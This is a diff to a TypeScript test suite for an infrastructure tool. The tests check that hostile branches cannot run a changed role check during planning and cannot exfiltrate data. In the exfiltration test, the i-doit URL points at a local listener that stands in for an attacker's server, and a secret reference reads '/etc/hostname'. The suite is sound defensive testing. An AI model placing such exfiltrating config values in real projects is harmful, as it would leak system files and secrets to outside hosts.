@@ -3,7 +3,7 @@
  * branch would try, each against real daemons — an sshd "host" that records every command it is asked
  * to run, the i-doit emulator, and a listener standing in for the attacker's server.
  *  - a branch changes a role's `check:` (and adds a role) → nothing of it runs on the host during plan;
- *  - a branch points idoit.url at its own listener with `${file:/etc/…}` → no connection there, the plan
+ *  - a branch points the i-doit URL (ipam.url, cmdb.url) at its own listener with `${file:/etc/…}` → no connection there, the plan
  *    says the change is not used, and validation names the reference.
  */
 import { execFileSync } from 'node:child_process';
@@ -36,7 +36,8 @@ const system = (labels: string) =>
 const site = (idoitUrl: string, apiKey: string) => [
   'apiVersion: shipshape.dev/v1', 'kind: Site', 'spec:', '  lab: true',
   '  nets:', '    lo-net: { cidr: 127.0.0.0/24, gateway: 127.0.0.1, domain: lab.example.test }',
-  `  idoit: { url: "${idoitUrl}", apiKey: "${apiKey}" }`,
+  `  ipam: { backend: idoit, url: "${idoitUrl}", apiKey: "${apiKey}" }`,
+  `  cmdb: { backend: idoit, url: "${idoitUrl}", apiKey: "${apiKey}" }`,
   '  specialise:', '    user: root', `    port: ${hosts.port}`, '    privateKey: ${file:secrets/ssh_key}',
   '    knownHosts: known_hosts', `    rootPrefix: ${join(work, 'targets')}/{system}`, '    connectTimeoutSeconds: 5', '    commandTimeoutSeconds: 30', '',
 ].join('\n');
@@ -147,7 +148,7 @@ describe('a branch that adds a role with a hostile check and a system that uses 
   });
 });
 
-describe('a branch that points idoit.url at its own listener with ${file:/etc/…}', () => {
+describe('a branch that points the i-doit url at its own listener with ${file:/etc/…}', () => {
   beforeAll(() => {
     git('checkout', '-qb', 'exfiltrate', 'main');
     write('shipshape.yaml', site(`http://127.0.0.1:${listenerPort}/src/jsonrpc.php`, '${file:/etc/hostname}'));
@@ -163,12 +164,12 @@ describe('a branch that points idoit.url at its own listener with ${file:/etc/�
     expect(r.code).toBe(0);
     expect(attackerConnections).toBe(0);
     expect(emu.stats().httpRequests).toBeGreaterThan(0); // the base's i-doit was observed
-    expect(r.out).toContain('#### Changes to trusted files, not used for this plan; applied only after merge\n\n- `shipshape.yaml (modified, +1 -1)`');
+    expect(r.out).toContain('#### Changes to trusted files, not used for this plan; applied only after merge\n\n- `shipshape.yaml (modified, +2 -2)`');
   });
 
   it('validate on the branch names the reference outside the secrets folder', async () => {
     const r = await runCli(['validate', repo]);
     expect(r.code).toBe(1);
-    expect(r.err).toMatch(/^shipshape\.yaml:7:\d+: error: secret reference \$\{file:\/etc\/hostname\} is outside the secrets folders \(secrets\/\)/m);
+    expect(r.err).toMatch(/^shipshape\.yaml:[78]:\d+: error: secret reference \$\{file:\/etc\/hostname\} is outside the secrets folders \(secrets\/\)/m);
   });
 });
